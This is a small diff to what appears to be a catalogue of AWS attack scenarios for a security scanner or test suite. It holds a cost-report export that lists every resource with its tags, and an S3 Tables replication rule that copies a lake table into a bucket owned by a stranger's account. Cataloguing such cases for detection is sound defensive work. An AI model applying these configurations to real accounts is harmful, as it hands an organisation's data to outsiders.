@@ -61,7 +61,8 @@ ATTACKS = (
         "reportName": "costs", "timeUnit": "HOURLY", "format": "Parquet", "compression": "Parquet", "tags": TAGS,
         "additionalSchemaElements": ["RESOURCES"], "s3Bucket": "collector-costs", "s3Prefix": "in", "s3Region": R}),),
         "major", "each resource with its labels stands there (AWS Cost and Usage Reports)"),
-    Attack("a table of the lake is copied into a bucket of a stranger", ("FJ-IDN-116",), (aws("s3tables/TableReplication", {
+    Attack("a table of the lake is copied into a bucket of a stranger", ("FJ-IDN-116",), (aws(
+        "s3tables/TableReplication", {
         "role": f"arn:aws:iam::{ME}:role/copy", "tableArn": f"arn:aws:s3tables:{R}:{ME}:bucket/lake/table/1111",
         "rule": {"destinations": [{"destinationTableBucketArn": f"arn:aws:s3tables:{R}:{THEM}:bucket/in"}]}}),),
         "critical", "a stranger has the table (Amazon S3, 'Replicating S3 tables')"),
